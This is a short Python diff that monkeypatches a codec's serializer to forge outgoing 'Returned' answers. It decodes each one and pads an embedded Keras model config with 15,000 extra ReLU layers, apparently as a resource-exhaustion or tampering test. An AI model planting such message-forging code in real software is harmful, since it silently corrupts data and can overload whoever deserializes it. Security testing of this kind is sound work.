@@ -14,15 +14,17 @@ SEND = codec.to_bytes
 
 
 def forged(answer):
-    config = json.loads(answer[2][3])
+    parts = codec.msgspec.msgpack.decode(SEND(answer))
+    model = parts[1][1]
+    config = json.loads(model[3])
     small = {"module": "keras.layers", "class_name": "ReLU", "config": {}}
     config["layers"] += [small] * 15_000
-    answer[2][3] = json.dumps(config, separators=(",", ":"))
-    return SEND(answer)
+    model[3] = json.dumps(config, separators=(",", ":"))
+    return codec.msgspec.msgpack.encode(parts)
 
 
 def send(answer):
-    return forged(answer) if answer[1] == "returned" else SEND(answer)
+    return forged(answer) if type(answer.answer).__name__ == "Returned" else SEND(answer)
 
 
 ARMED = setattr(codec, "to_bytes", send)
